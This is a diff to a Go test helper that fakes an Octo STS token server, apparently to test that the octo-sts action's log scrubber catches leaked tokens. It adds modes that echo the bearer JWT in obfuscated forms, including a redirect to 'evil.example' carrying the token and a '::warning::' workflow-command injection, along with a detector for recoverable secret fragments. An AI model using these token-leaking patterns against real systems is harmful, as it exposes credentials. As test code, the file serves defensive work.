@@ -8,6 +8,7 @@ import (
 	"crypto/rand"
 	"crypto/rsa"
 	"crypto/tls"
+	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
 	"fmt"
@@ -15,12 +16,17 @@ import (
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
+	"regexp"
+	"strconv"
 	"strings"
 	"sync"
 	"time"
 
 	"github.com/go-jose/go-jose/v4"
 	"github.com/go-jose/go-jose/v4/jwt"
+
+	"github.com/octo-sts/action/internal/policy"
 )
 
 // Issuer is the issuer the fake ID-token endpoint signs as (GitHub's real one, so claim output
@@ -193,6 +199,56 @@ const (
 	EchoBad200 = "echo200" // 200 with a truncated body that contains the minted token
 )
 
+// Hostile echoes of the bearer JWT in the forms a log scrubber must see through.
+const (
+	EchoSplit    = "403split"    // the JWT split over two lines of the message
+	EchoWrapped  = "403b64"      // the JWT base64-encoded and wrapped at 76 columns
+	EchoJSONEsc  = "403jsonesc"  // every character of the JWT as a literal \uXXXX escape
+	EchoURLEsc   = "403urlesc"   // every character of the JWT %-escaped, with %0A splits
+	EchoLocation = "302location" // a redirect whose Location carries the JWT with %0A inside
+	EchoMixed    = "403mixed"    // pieces of the JWT in a JSON "details" array and the message
+)
+
+// HostileEchoes lists every echo behaviour, for batteries that run them all.
+var HostileEchoes = []string{EchoDeny, EchoCut, EchoSplit, EchoWrapped, EchoJSONEsc, EchoURLEsc, EchoLocation, EchoMixed}
+
+func hostileEcho(w http.ResponseWriter, step, bearer string) {
+	half := len(bearer) / 2
+	switch step {
+	case EchoSplit:
+		grpcErr(w, http.StatusForbidden, 7, "bad token "+bearer[:half]+"\n"+bearer[half:])
+	case EchoWrapped:
+		b := base64.StdEncoding.EncodeToString([]byte("Authorization: Bearer " + bearer))
+		var lines []string
+		for len(b) > 76 {
+			lines, b = append(lines, b[:76]), b[76:]
+		}
+		grpcErr(w, http.StatusForbidden, 7, "request dump:\n"+strings.Join(append(lines, b), "\n"))
+	case EchoJSONEsc:
+		var e strings.Builder
+		for _, r := range bearer {
+			fmt.Fprintf(&e, `\\u%04x`, r)
+		}
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusForbidden)
+		_, _ = fmt.Fprintf(w, `{"code":7,"message":"token \"%s\" refused","details":[]}`, e.String())
+	case EchoURLEsc:
+		var e strings.Builder
+		for i := 0; i < len(bearer); i++ {
+			if i > 0 && i%30 == 0 {
+				e.WriteString("%0A")
+			}
+			fmt.Fprintf(&e, "%%%02X", bearer[i])
+		}
+		grpcErr(w, http.StatusForbidden, 7, "see https://proxy.example/?t="+e.String())
+	case EchoLocation:
+		w.Header().Set("Location", "https://evil.example/callback?t="+url.QueryEscape(bearer[:half])+"%0A"+url.QueryEscape(bearer[half:]))
+		w.WriteHeader(http.StatusFound)
+	case EchoMixed:
+		writeJSON(w, http.StatusForbidden, map[string]any{"code": 7, "message": "denied for " + bearer[10:60] + " / " + bearer[len(bearer)-45:], "details": []any{bearer}})
+	}
+}
+
 // STS fakes an Octo STS server over TLS on loopback. It verifies the bearer JWT, the audience, the
 // scope and the identity like the real server, then follows its script.
 type STS struct {
@@ -203,6 +259,11 @@ type STS struct {
 	Scope    string // expected scopes value
 	Identity string // expected identity value
 	Token    string // GitHub token minted on success
+	// Tokens, when set, mints a distinct token per identity (several tokens in one step);
+	// identities not in it are refused with 404 like a missing policy.
+	Tokens map[string]string
+	// Expiry, when set, is sent as the response's "expiry" (Octo STS itself sends null).
+	Expiry string
 
 	mu       sync.Mutex
 	script   []string
@@ -274,22 +335,22 @@ func (s *STS) serve(w http.ResponseWriter, r *http.Request) {
 
 	auth := r.Header.Values("Authorization")
 	if len(auth) != 1 {
-		grpcErr(w, http.StatusUnauthorized, 16, "expected exactly one authorization header")
+		answer(w, policy.CodeAuthHeader)
 		return
 	}
 	bearer := strings.TrimPrefix(auth[0], "Bearer ")
 	claims, err := s.Signer.Verify(bearer)
 	if err != nil {
-		grpcErr(w, http.StatusUnauthorized, 16, "unable to verify bearer token")
+		answer(w, policy.CodeVerify)
 		return
 	}
 	if exp, ok := claims["exp"].(float64); !ok || time.Unix(int64(exp), 0).Before(time.Now()) {
-		grpcErr(w, http.StatusUnauthorized, 16, "unable to verify bearer token")
+		answer(w, policy.CodeVerify)
 		return
 	}
 	q := r.URL.Query()
 	if len(q["scopes"]) > 1 {
-		grpcErr(w, http.StatusBadRequest, 3, "multiple scopes not supported")
+		answer(w, policy.CodeMultipleScopes)
 		return
 	}
 	scope := q.Get("scopes")
@@ -297,37 +358,40 @@ func (s *STS) serve(w http.ResponseWriter, r *http.Request) {
 		scope = q.Get("scope")
 	}
 	if scope == "" {
-		grpcErr(w, http.StatusBadRequest, 3, "scope must be provided")
+		answer(w, policy.CodeScopeMissing)
 		return
 	}
 	identity := q.Get("identity")
 	if identity == "" {
-		grpcErr(w, http.StatusBadRequest, 3, "identity must be provided")
+		answer(w, policy.CodeIdentityMissing)
 		return
 	}
-	if (s.Scope != "" && scope != s.Scope) || (s.Identity != "" && identity != s.Identity) {
-		grpcErr(w, http.StatusNotFound, 5, fmt.Sprintf("unable to find trust policy for %q", identity))
+	_, known := s.Tokens[identity]
+	if (s.Tokens != nil && !known) || (s.Scope != "" && scope != s.Scope) || (s.Identity != "" && identity != s.Identity) {
+		answer(w, policy.CodePolicyNotFound, identity)
 		return
 	}
 	if aud, _ := claims["aud"].(string); aud != s.Audience {
-		grpcErr(w, http.StatusForbidden, 7, fmt.Sprintf("trust policy: audience %q did not match any of [%q]", s.Audience, aud))
+		denyBy(w, "issuer_pattern: .*\nsubject_pattern: .*\naudience: "+strconv.Quote(s.Audience)+"\n", claims)
 		return
 	}
 
 	switch step {
 	case Deny:
-		grpcErr(w, http.StatusForbidden, 7, fmt.Sprintf("trust policy: subject %q did not match %q", claims["sub"], "repo:octo-org/app:ref:refs/heads/release"))
+		denyBy(w, "issuer_pattern: .*\nsubject: repo:octo-org/app:ref:refs/heads/release\naudience_pattern: .*\n", claims)
 	case EchoDeny:
 		grpcErr(w, http.StatusForbidden, 7, "bad token "+bearer+"\n::warning::injected "+bearer)
 	case EchoCut:
 		grpcErr(w, http.StatusForbidden, 7, strings.Repeat("x", 1000)+bearer)
+	case EchoSplit, EchoWrapped, EchoJSONEsc, EchoURLEsc, EchoLocation, EchoMixed:
+		hostileEcho(w, step, bearer)
 	case NotFound:
-		grpcErr(w, http.StatusNotFound, 5, fmt.Sprintf("unable to find trust policy for %q", identity))
+		answer(w, policy.CodePolicyNotFound, identity)
 	case RateLimit:
 		w.Header().Set("Retry-After", "1")
-		grpcErr(w, http.StatusTooManyRequests, 8, fmt.Sprintf("GitHub API rate limit exceeded for %q", identity))
+		answer(w, policy.CodePolicyRateLimited, identity)
 	case Unavail:
-		grpcErr(w, http.StatusServiceUnavailable, 14, "organization trusted-issuer lookup unavailable")
+		answer(w, policy.CodeAllowlistUnavailable)
 	case Hang:
 		select {
 		case <-r.Context().Done():
@@ -360,18 +424,28 @@ func (s *STS) serve(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Type", "application/json")
 		_, _ = w.Write([]byte(`{"token":"` + s.mint() + `" "bearer":"` + bearer + `"`))
 	default:
-		writeJSON(w, http.StatusOK, map[string]any{"token": s.mint(), "refreshToken": "", "expiry": nil})
+		tok := s.mint(identity)
+		var exp any
+		if s.Expiry != "" {
+			exp = s.Expiry
+		}
+		writeJSON(w, http.StatusOK, map[string]any{"token": tok, "refreshToken": "", "expiry": exp})
 	}
 }
 
-func (s *STS) mint() string {
+// mint hands out the token for identity (the one Token unless Tokens is set).
+func (s *STS) mint(identity ...string) string {
 	s.mu.Lock()
 	hook := s.OnMint
+	tok := s.Token
+	if len(identity) == 1 && s.Tokens[identity[0]] != "" {
+		tok = s.Tokens[identity[0]]
+	}
 	s.mu.Unlock()
 	if hook != nil {
-		hook(s.Token)
+		hook(tok)
 	}
-	return s.Token
+	return tok
 }
 
 // GitHubAPI fakes `DELETE /installation/token` so revocation can be observed.
@@ -481,4 +555,109 @@ func (c *Clock) Sleeps() []time.Duration {
 	c.mu.Lock()
 	defer c.mu.Unlock()
 	return append([]time.Duration(nil), c.sleeps...)
+}
+
+// StatelessToken is a GitHub installation token in the ~520-character stateless format
+// (ghs_<app id>_<JWT>, with '.', '_' and '-'), deterministic so tests can compare it.
+func StatelessToken() string {
+	seg := func(n int, seed byte) string {
+		b := make([]byte, n)
+		for i := range b {
+			b[i] = seed + byte(i*7)
+		}
+		return base64.RawURLEncoding.EncodeToString(b)
+	}
+	tok := "ghs_123456_" + seg(27, 0xfb) + "." + seg(250, 0xf0) + "." + seg(90, 0xfe)
+	for len(tok) < 520 {
+		tok += "-"
+	}
+	return tok[:520]
+}
+
+// Recoverable returns a piece of secret (RunLen-long, 20 characters) that can be read out of
+// text, raw or after undoing JSON escapes, URL escapes, line breaks or base64 — or "" when there
+// is none. It is deliberately independent of package secret's scrubber, to test it.
+func Recoverable(text, secret string) string {
+	const runLen = 20
+	views := []string{text, strings.NewReplacer("\n", "", "\r", "").Replace(text)}
+	if u, err := url.PathUnescape(text); err == nil {
+		views = append(views, u, strings.NewReplacer("\n", "", "\r", "").Replace(u))
+	}
+	views = append(views, jsonUnicode.ReplaceAllStringFunc(text, func(m string) string {
+		n, _ := strconv.ParseUint(m[2:], 16, 32)
+		return string(rune(n))
+	}))
+	// base64: every run of base64 characters (line breaks removed), decoded at each alignment.
+	joined := strings.NewReplacer("\n", "", "\r", "", " ", "").Replace(text)
+	for _, run := range base64Run.FindAllString(joined, -1) {
+		run = strings.TrimRight(run, "=")
+		for off := 0; off < 4 && off < len(run); off++ {
+			r := run[off:]
+			r = r[:len(r)/4*4]
+			for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding} {
+				if b, err := enc.DecodeString(r); err == nil {
+					views = append(views, string(b))
+				}
+			}
+		}
+	}
+	for i := 0; i+runLen <= len(secret); i++ {
+		piece := secret[i : i+runLen]
+		for _, v := range views {
+			if strings.Contains(v, piece) {
+				return piece
+			}
+		}
+	}
+	return ""
+}
+
+var (
+	jsonUnicode = regexp.MustCompile(`\\u[0-9a-fA-F]{4}`)
+	base64Run   = regexp.MustCompile(`[A-Za-z0-9+/_=-]{24,}`)
+)
+
+// grpcCodes maps an HTTP status back to the gRPC code grpc-gateway puts in the body.
+var grpcCodes = map[int]int{400: 3, 401: 16, 403: 7, 404: 5, 429: 8, 500: 13, 503: 14, 504: 4}
+
+// answer writes the legacy server's answer for c, taken from the model.
+func answer(w http.ResponseWriter, c policy.Code, args ...any) {
+	a := policy.ExchangeAnswer(policy.Legacy, c, args...)
+	grpcErr(w, a.Status, grpcCodes[a.Status], a.Message)
+}
+
+// denyBy writes the 403 the model's CheckToken matching gives the token's claims under policyYAML.
+func denyBy(w http.ResponseWriter, policyYAML string, claims map[string]any) {
+	tp, _, err := policy.Decode(policy.Legacy, policy.KindRepo, []byte(policyYAML))
+	if err == nil {
+		err = tp.Compile()
+	}
+	if err != nil {
+		grpcErr(w, http.StatusInternalServerError, 13, "ststest: bad fake policy: "+err.Error())
+		return
+	}
+	tok := policy.Token{Claims: claims}
+	tok.Issuer, _ = claims["iss"].(string)
+	tok.Subject, _ = claims["sub"].(string)
+	switch a := claims["aud"].(type) {
+	case string:
+		tok.Audience = []string{a}
+	case []any:
+		for _, x := range a {
+			if s, ok := x.(string); ok {
+				tok.Audience = append(tok.Audience, s)
+			}
+		}
+	}
+	var d *policy.Denial // the matching rows only: the fake's scripts deny whatever the token holds
+	for _, row := range tp.Rows(tok, "octo-sts.dev") {
+		if d == nil {
+			d = row.Denial
+		}
+	}
+	if d == nil {
+		grpcErr(w, http.StatusInternalServerError, 13, "ststest: fake policy allowed the token")
+		return
+	}
+	grpcErr(w, d.Status, grpcCodes[d.Status], d.Message)
 }
